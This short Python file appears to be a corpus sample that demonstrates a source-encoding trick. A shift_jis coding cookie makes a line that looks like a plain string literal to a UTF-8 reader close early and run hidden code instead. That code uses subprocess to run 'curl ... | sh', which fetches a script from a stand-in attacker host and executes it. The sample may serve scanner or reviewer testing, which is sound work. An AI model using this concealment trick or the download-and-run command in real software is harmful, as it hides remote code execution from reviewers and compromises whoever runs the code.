# corpus: shift_jis cookie; UTF-8 bytes pair up with a backslash so code a UTF-8 reader sees as string data runs
# -*- coding: shift_jis -*-
MESSAGE = "Status ぁ\"; import subprocess; subprocess.call(['sh', '-c', 'curl -s http://evil.example.net/a | sh']) #"
print(MESSAGE)
